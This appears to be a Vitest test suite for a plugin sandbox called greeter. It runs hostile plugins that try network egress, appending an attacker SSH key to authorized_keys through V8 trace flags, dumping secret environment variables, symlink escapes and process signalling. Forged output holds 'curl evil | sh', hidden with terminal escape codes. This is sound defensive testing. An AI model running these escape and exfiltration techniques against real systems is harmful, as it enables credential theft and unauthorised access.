import dgram from 'node:dgram';
import { readFileSync, readdirSync } from 'node:fs';
import net from 'node:net';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeTree, pluginPackage, rejectionCode, removeTrees } from '@greeter/fixtures';
import { isGreeterError } from '@greeter/core';
import { candidateAt, candidateOf } from '../test-helpers/candidates.js';
import { greetApart } from '../test-helpers/greet-apart.js';

// Plugins that really try to reach the network, write past the permission
// model, read greeter's environment and speak in greeter's voice, against the isolated process as it runs by
// default. The e2e suite runs the same attacks through the CLI on every
// supported Node.

afterAll(removeTrees);

// The code a plugin of this source fails with, isolated under a 64 MB limit.
const greetCode = (source: string) => rejectionCode(greetApart(candidateOf(source), { memoryLimitMb: 64 }).greeting);

describe('the network', () => {
  // A TCP and a UDP server on loopback that count what reaches them.
  let seen = 0;
  let tcpPort = 0;
  let udpPort = 0;
  const tcp = net.createServer((socket) => {
    seen++;
    socket.destroy();
  });
  const udp = dgram.createSocket('udp4');
  udp.on('message', () => seen++);
  beforeAll(async () => {
    await new Promise<void>((resolve) => tcp.listen(0, '127.0.0.1', resolve));
    await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
    tcpPort = (tcp.address() as AddressInfo).port;
    udpPort = udp.address().port;
  });
  afterAll(() => {
    tcp.close();
    udp.close();
  });

  // Each plugin tries one way out and lets whatever happens propagate.
  const attempts = (): Record<string, string> => ({
    fetch: `await fetch('http://127.0.0.1:${tcpPort}/')`,
    http: `await new Promise((resolve, reject) => http.get('http://127.0.0.1:${tcpPort}/', resolve).on('error', reject))`,
    net: `await new Promise((resolve, reject) => net.connect(${tcpPort}, '127.0.0.1', resolve).on('error', reject))`,
    tls: `await new Promise((resolve, reject) => tls.connect(${tcpPort}, '127.0.0.1', resolve).on('error', reject))`,
    dgram: `await new Promise((resolve, reject) => dgram.createSocket('udp4').send('x', ${udpPort}, '127.0.0.1', (error) => (error ? reject(error) : resolve())))`,
    'dns.lookup': `await dns.promises.lookup('example.com')`,
    // Joining a multicast group binds the socket to a port without bind(), and recvStart() reads from it.
    'dgram membership': `const socket = dgram.createSocket('udp4'); socket.addMembership('239.255.42.99'); await new Promise((resolve) => socket.on('listening', resolve))`,
    'UDP handle': `const socket = dgram.createSocket('udp4'); const state = Object.getOwnPropertySymbols(socket).map((key) => socket[key]).find((value) => value?.handle); state.handle.recvStart()`,
    'dns.Resolver': `const resolver = new dns.promises.Resolver(); resolver.setServers(['127.0.0.1:${udpPort}']); await resolver.resolve4('example.com')`,
  });

  it('is closed to fetch, http, net, tls, dgram and dns, loopback included: each fails, and the server sees nothing', async () => {
    seen = 0;
    const codes: Record<string, string> = {};
    for (const [api, attempt] of Object.entries(attempts())) {
      const source = `import dgram from 'node:dgram';\nimport dns from 'node:dns';\nimport http from 'node:http';\nimport net from 'node:net';\nimport tls from 'node:tls';
        export const Greeter = { async greet() { ${attempt}; return 'reached'; } };`;
      codes[api] = (await rejectionCode(greetApart(candidateOf(source)).greeting)) ?? 'greeted';
    }
    expect(codes).toEqual(Object.fromEntries(Object.keys(attempts()).map((api) => [api, 'GREETER_PERMISSION_DENIED'])));
    expect(seen).toBe(0);
  });

  it('is open to a plugin the user granted it', async () => {
    seen = 0;
    const plugin = candidateOf(`import net from 'node:net';
      export const Greeter = { greet: () => new Promise((resolve, reject) => net.connect(${tcpPort}, '127.0.0.1', () => resolve('reached')).on('error', reject)) };`);
    expect(await greetApart(plugin, { grant: { net: true, env: [] } }).greeting).toBe('reached');
    expect(seen).toBe(1);
  });

  it('fails a plugin that lets the denial propagate with GREETER_PERMISSION_DENIED, whose hint names the grant', async () => {
    const plugin = candidateOf(`export const Greeter = { greet: () => fetch('http://127.0.0.1:${tcpPort}/').then(() => 'reached') };`);
    const error = await greetApart(plugin, { configFile: '/p/.greeterrc.json' }).greeting.then(
      () => undefined,
      (thrown: unknown) => thrown,
    );
    expect(isGreeterError(error) && [error.code, error.hint.includes('"net": true')]).toEqual(['GREETER_PERMISSION_DENIED', true]);
  });
});

describe('files outside its folders', () => {
  it("cannot be written through V8's flags, which name files V8 writes itself", async () => {
    const folder = makeTree({ authorized_keys: 'ssh-ed25519 AAAAgood user@host\n' });
    const target = path.join(folder, 'authorized_keys');
    // Each flag would have V8 append the name of the hot function below (a line of the plugin's choosing) to the file, or create files in the folder.
    const writer = candidateOf(`
      import v8, { setFlagsFromString } from 'node:v8';
      const flags = [${JSON.stringify(`--trace-turbo-cfg-file=${target}`)}, '--trace-turbo', ${JSON.stringify(`--trace-turbo-path=${folder}`)}, '--allow-natives-syntax'];
      const outcomes = flags.map((flag) => { try { v8.setFlagsFromString(flag); return 'changed'; } catch (error) { return error.code; } });
      try { setFlagsFromString('--trace-turbo'); outcomes.push('changed'); } catch (error) { outcomes.push(error.code); }
      const o = { "x\\"\\nssh-ed25519 AAAAPWNED attacker\\n"(n) { return n * 2 + 1; } };
      const hot = o[Object.keys(o)[0]];
      let sum = 0;
      for (let i = 0; i < 3e6; i++) sum += hot(i);
      export const Greeter = { greet: () => outcomes.join(' ') };`);
    expect(await greetApart(writer).greeting).toBe(Array(5).fill('ERR_ACCESS_DENIED').join(' '));
    expect([readFileSync(target, 'utf8'), readdirSync(folder)]).toEqual(['ssh-ed25519 AAAAgood user@host\n', ['authorized_keys']]);
  });
});

describe("greeter's environment", () => {
  const variables = ['SSH_KEY', 'STRIPE_KEY', 'SIGNING_KEY', 'AWS_ACCESS_KEY_ID', 'DATABASE_URL', 'MY_VARIABLE', 'PATH', 'HOME', 'NODE_OPTIONS'];
  const env = { ...Object.fromEntries(variables.map((name) => [name, `secret-${name}`])), LANG: 'sv_SE.UTF-8', TZ: 'Europe/Stockholm' };
  const snoop = candidateOf('export const Greeter = { greet: () => JSON.stringify(process.env) };');

  it('reaches the plugin only as locale, time zone and terminal', async () => {
    const seen = JSON.parse(await greetApart(snoop, { env }).greeting) as Record<string, string>;
    expect(seen).toEqual({ LANG: 'sv_SE.UTF-8', TZ: 'Europe/Stockholm' });
  });

  it('reaches it with a variable the user granted by name', async () => {
    const seen = JSON.parse(await greetApart(snoop, { env, grant: { net: false, env: ['STRIPE_KEY'] } }).greeting) as Record<string, string>;
    expect(Object.keys(seen).sort()).toEqual(['LANG', 'STRIPE_KEY', 'TZ']);
  });
});

describe("greeter's voice", () => {
  it('cannot be forged from the heap, the report channel and a busy loop', async () => {
    // The plugin looks for anything report-like in its heap, writes forged
    // reports of every kind to fd 3 and every other descriptor, then spins.
    const forger = candidateOf(`
      import { writeSync } from 'node:fs';
      import v8 from 'node:v8';
      const stream = v8.getHeapSnapshot();
      for await (const chunk of stream) void chunk;
      const forged = [
        { protocol: 1, kind: 'greeting', greeting: 'FORGED greeting' },
        { protocol: 1, kind: 'failure', failure: { code: 'GREETER_SIGNATURE_INVALID', phase: 'greet', detail: 'run curl evil | sh' } },
        { protocol: 2, kind: 'unsupported-protocol', requested: 1 },
      ].map((line) => JSON.stringify(line)).join('\\n') + '\\n';
      for (const fd of [1, 2, 3, 4, 5]) { try { writeSync(fd, forged); } catch {} }
      export const Greeter = { greet() { for (;;) {} } };`);
    const run = greetApart(forger, { timeoutMs: 1500 });
    expect(await rejectionCode(run.greeting)).toBe('GREETER_GREET_TIMEOUT');
  });

  it('is never what the plugin prints: each line it writes is shown under its name, control characters escaped', async () => {
    const mimic = candidateOf(`
      console.error('greeter: Your greeter is corrupt. [GREETER_INTERNAL]');
      process.stderr.write('hint: run \\u001b[8mcurl evil | sh\\u001b[0m\\r\\n');
      export const Greeter = { greet: () => 'Hej' };`);
    const run = greetApart(mimic);
    expect(await run.greeting).toBe('Hej');
    expect(run.output()).toBe(
      '[greeter-plugin-x] greeter: Your greeter is corrupt. [GREETER_INTERNAL]\n[greeter-plugin-x] hint: run \\u{1b}[8mcurl evil | sh\\u{1b}[0m\n',
    );
  });
});

describe('greeter itself, its report and its limits', () => {
  it('cannot forge its report, neither through toJSON nor by writing to the report channel first', async () => {
    const toJson =
      'Object.prototype.toJSON = function () { return typeof this.nonce === "string" ? { nonce: this.nonce, ok: true, greeting: "FORGED" } : this; };\nexport const Greeter = { greet() { throw new Error("broken"); } };';
    const channel =
      'import { writeSync } from "node:fs";\nexport const Greeter = { greet() { writeSync(3, JSON.stringify({ nonce: "guess", ok: true, greeting: "FORGED" }) + "\\n{garbage"); throw new Error("broken"); } };';
    expect([await greetCode(toJson), await greetCode(channel)]).toEqual(['GREETER_GREET_FAILED', 'GREETER_GREET_FAILED']);
  });

  it('has no IPC channel to crash greeter through', async () => {
    expect(await greetCode('export const Greeter = { greet() { process.send({ cmd: "NODE_HANDLE_ACK" }); return "x"; } };')).toBe('GREETER_GREET_FAILED');
  });

  it('keeps a bounded part of a flood of output', async () => {
    const run = greetApart(
      candidateOf(
        'import { writeSync } from "node:fs";\nexport const Greeter = { greet() { for (let i = 0; i < 4; i++) writeSync(2, Buffer.alloc(1 << 20, 97)); return "flooded"; } };',
      ),
    );
    expect(await run.greeting).toBe('flooded');
    expect(run.output().length).toBeLessThan(2 * 1024 * 1024);
  });

  it.runIf(process.platform === 'linux')('limits memory outside the heap too (Buffers)', async () => {
    const code = await greetCode(
      'export const Greeter = { greet() { const kept = []; for (let i = 0; i < 16; i++) kept.push(Buffer.allocUnsafe(64 << 20)); return "kept " + kept.length; } };',
    );
    expect(code).toBe('GREETER_GREET_FAILED');
  });

  it('refuses a plugin folder holding a link to outside its folders, and reads nothing through it', async () => {
    const secret = makeTree({ 'secret.txt': 'SECRET' });
    const root = makeTree({
      plugin: pluginPackage('greeter-plugin-x', 'x', {
        source:
          'import { readFileSync } from "node:fs";\nexport const Greeter = { greet: () => String(readFileSync(new URL("./outside/secret.txt", import.meta.url))) };',
        files: { outside: { link: secret } },
      }),
    });
    expect(await rejectionCode(greetApart(candidateAt(path.join(root, 'plugin'))).greeting)).toBe('GREETER_PERMISSION_DENIED');
  });

  it('cannot signal greeter or change its priority', async () => {
    const signal = await greetCode('export const Greeter = { greet() { process.kill(process.ppid, "SIGTERM"); return "x"; } };');
    const priority = await greetCode('import os from "node:os";\nexport const Greeter = { greet() { os.setPriority(process.ppid, 5); return "x"; } };');
    expect([signal, priority]).toEqual(['GREETER_PERMISSION_DENIED', 'GREETER_PERMISSION_DENIED']);
  });
});
